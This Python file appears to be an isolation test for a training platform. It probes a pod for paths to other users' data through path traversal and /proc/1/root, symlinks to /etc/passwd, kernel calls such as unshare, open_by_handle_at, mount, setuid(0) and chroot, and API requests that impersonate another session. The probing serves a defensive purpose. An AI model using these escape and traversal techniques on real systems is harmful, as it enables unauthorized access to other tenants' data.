"""A program that tries everything to get at what is not its own. It runs in a real pod.

It needs the standard library only. Each line that it prints begins with `tried ` and holds JSON:
what was tried, and what came of it: `refused` with the error, or `got` with what was reached.
"""

from __future__ import annotations

import ctypes
import json
import os
import stat
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path
from typing import Any

VICTIM = os.environ.get("VICTIM_UID", "")
"""UID of a session of another user."""
CANARY = os.environ.get("CANARY_MARK", "")
"""What the victim's files, and the dataset that is not named, hold, written backwards."""
OTHER = os.environ.get("OTHER_FOLDER", "")
"""Folder of the dataset that is not named."""
MINE = os.environ.get("MINE", "")
"""The dataset that the session names."""
RUN = Path("/data/run")
_DATABASE = "3 tamrof etiLQS"[::-1].encode()
"""How the files of SQLite begin; this program is no such file."""
_ROOT = "/proc/1/root"
_SKIPPED = ("/proc", "/sys", "/usr", "/lib")
_NEW_USER, _NEW_MOUNTS = 0x10000000, 0x00020000


def tell(what: str, attempt: Callable[[], object]) -> None:
    """Print what came of `attempt`."""
    try:
        outcome = {"got": attempt()}
    except urllib.error.HTTPError as error:
        outcome = {"refused": error.code}
    except OSError as error:
        outcome = {"refused": error.strerror or type(error).__name__}
    sys.stdout.write(f"tried {json.dumps({'what': what, **outcome}, default=str)}\n")
    sys.stdout.flush()


def below(top: str) -> Iterator[Path]:
    """Every file below `top` that is no link."""
    for folder, _, files in os.walk(top):
        if not folder.startswith(_SKIPPED):
            yield from (Path(folder, name) for name in files)


def entries(folder: str | Path) -> list[str]:
    """Names in a folder, in order."""
    return sorted(path.name for path in Path(folder).iterdir())


def holds(path: Path, mark: bytes) -> bool:
    """Whether a regular file holds `mark` in its first MiB."""
    try:
        if not stat.S_ISREG(path.lstat().st_mode):
            return False
        with path.open("rb") as file:
            return mark in file.read(1 << 20)
    except OSError:
        return False


def mounted() -> list[str]:
    """Where parts of the data volume are mounted."""
    lines = Path("/proc/self/mountinfo").read_text().splitlines()
    return sorted(place for line in lines if (place := line.split()[4]).startswith("/data"))


def call(function: str, *arguments: Any) -> object:
    """A system call of libc. Raises OSError."""
    libc = ctypes.CDLL(None, use_errno=True)
    result = getattr(libc, function)(*arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def by_handle() -> object:
    """Open the root of the volume by a handle, past all mounts."""
    handle = (ctypes.c_char * 136)()
    ctypes.memmove(handle, (128).to_bytes(4, sys.byteorder), 4)
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, b"/data/run", handle, ctypes.byref(mount), 0)
    place = os.open("/data/run", os.O_RDONLY)
    found = call("open_by_handle_at", place, handle, os.O_RDONLY)
    return str(Path(f"/proc/self/fd/{found}").readlink())


def ask(method: str, path: str, body: object = None) -> int:
    """The answer's status at the gateway, with the pod's own token. Raises HTTPError."""
    token = Path(os.environ["TRAINYARD_TOKEN_FILE"]).read_text()
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    data = json.dumps(body).encode() if body is not None else None
    url = os.environ["TRAINYARD_GATEWAY_URL"].rstrip("/") + path
    request = urllib.request.Request(url, data, headers, method=method)
    with urllib.request.urlopen(request, timeout=20) as answer:
        status: int = answer.status
        return status


def report(uid: str) -> dict[str, object]:
    return {"sessionUid": uid, "attempt": 1, "stream": "rank-0", "sequence": 1}


def files() -> None:
    mark = CANARY[::-1].encode()
    tell("find it anywhere", lambda: [str(p) for p in below("/") if holds(p, mark)])
    tell("find a database", lambda: [str(p) for p in below("/data") if holds(p, _DATABASE)])
    tell("list the mounts", mounted)
    tell("list the volume", partial(entries, "/data"))
    tell("list the datasets", partial(entries, "/data/datasets"))
    tell("list what is above the run", partial(entries, "/data/run/.."))
    tell("list the caches", partial(entries, "/data/cache/.."))
    for name, path in {
        "another run": f"/data/run/../{VICTIM}",
        "another run from the root of a process": f"{_ROOT}/data/run/../{VICTIM}",
        "another dataset": f"/data/datasets/{MINE}/../{OTHER}",
        "another dataset by its folder": f"/data/datasets/{OTHER}",
        "the gateway's files": "/data/run/../../gateway",
        "all environments": "/data/environments",
        "all code": "/data/code",
        "a run to resume from": "/data/resume",
        "the node": "/host",
    }.items():
        tell(f"list {name}", partial(entries, path))
    own = Path("/data/datasets", MINE, "data.csv")
    tell("write the dataset", lambda: own.write_bytes(b"x"))
    tell("add to the dataset", lambda: (own.parent / "more").write_bytes(b"x"))
    tell("remove the dataset", own.unlink)
    tell("rename the dataset", lambda: own.rename(own.parent / "else"))
    tell("make the dataset writable", lambda: own.chmod(0o777))
    tell("link the dataset into the run", lambda: os.link(own, RUN / "linked"))
    tell("write another run", lambda: Path(f"/data/run/../{VICTIM}/x").write_bytes(b"x"))


def links() -> None:
    """Links that lead out: here they lead nowhere, and the gateway must not follow them."""
    for name, target in {
        "to-run": f"../{VICTIM}",
        "to-database": "../../gateway/trainyard.db",
        "to-volume": "/data/..",
        "to-passwd": "/etc/passwd",
    }.items():
        (RUN / name).symlink_to(target)
    tell("follow a link to another run", partial(entries, RUN / "to-run"))
    tell("follow a link to the database", lambda: (RUN / "to-database").read_bytes())


def kernel() -> None:
    tell("a namespace of one's own", lambda: call("unshare", _NEW_USER | _NEW_MOUNTS))
    tell("open by a handle", by_handle)
    tell("mount", lambda: call("mount", b"/dev/sda", b"/tmp", b"ext4", 0, None))
    tell("mount again for writing", lambda: call("mount", None, b"/data/datasets", None, 32, None))
    tell("make a device", lambda: os.mknod("/tmp/disk", 0o660 | stat.S_IFBLK, os.makedev(8, 0)))
    tell("become root", lambda: os.setuid(0))
    tell("change the root", lambda: os.chroot("/data"))


def reports() -> None:
    mine = json.loads(os.environ["TRAINYARD_RUN"])["uid"]
    tell("report for itself", lambda: ask("POST", "/api/v1/report/batches", report(mine)))
    tell("report for another", lambda: ask("POST", "/api/v1/report/batches", report(VICTIM)))
    model = {"sessionUid": VICTIM, "attempt": 1, "name": "m", "sha256": "0" * 64, "sizeBytes": 1}
    tell("register for another", lambda: ask("POST", "/api/v1/report/model", model))
    tree = {**model, "tree": "0" * 64, "files": 1}
    tell("a tree for another", lambda: ask("POST", "/api/v1/report/tree", tree))
    start = {"command": ["sh"], "resumeFrom": {"session": "victim"}}
    tell("start a session", lambda: ask("POST", "/api/v1/training/start", start))
    for path in ("/training/sessions", f"/training/{VICTIM}/status", "/datasets", "/keys"):
        tell(f"read {path}", partial(ask, "GET", f"/api/v1{path}"))
    tell("files of another", lambda: ask("GET", f"/api/v1/training/{VICTIM}/files"))
    run = f"/mlflow/api/2.0/mlflow/runs/get?run_id={VICTIM.replace('-', '')}"
    tell("a run of another by MLflow", lambda: ask("GET", run))


def main() -> None:
    files()
    links()
    kernel()
    reports()


if __name__ == "__main__":
    main()
